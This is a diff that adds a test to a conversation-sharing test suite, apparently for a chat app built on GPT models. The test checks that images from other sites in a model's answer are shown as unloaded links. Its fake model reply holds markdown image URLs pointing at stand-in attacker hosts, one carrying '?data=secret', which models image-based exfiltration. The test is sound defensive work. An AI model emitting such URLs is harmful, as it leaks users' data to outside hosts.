@@ -123,6 +123,22 @@ describe('share a conversation', () => {
     );
   });
 
+  it("shows another site's picture in an answer as a link naming its host, never loaded", async () => {
+    const h = bearer(alice.token);
+    const groupId = await newGroup(h);
+    fake.reply =
+      'Chart: ![chart](https://attacker.example/x.gif?data=secret&more=1) and ' +
+      '![side](//evil.example/y.png "t")';
+    await stream(h, { gptModelId: models.Fake, prompt: 'Draw me a chart', options: { groupId } });
+    const s = (await share(h, groupId)).body.data;
+    const html = (await open(s.path)).body;
+    expect(html).not.toMatch(/<img[^>]*(attacker|evil)\.example/);
+    expect(html).toContain(
+      '<a class="remote-picture" href="https://attacker.example/x.gif?data=secret&amp;more=1" rel="noopener noreferrer nofollow" target="_blank">A picture from attacker.example (not loaded; opens that site)</a>',
+    );
+    expect(html).toContain('A picture from evil.example (not loaded; opens that site)');
+  });
+
   it('lists and revokes only its owner’s shares; a revoked link is a 404 page', async () => {
     const a = bearer(alice.token);
     const b = bearer(bob.token);
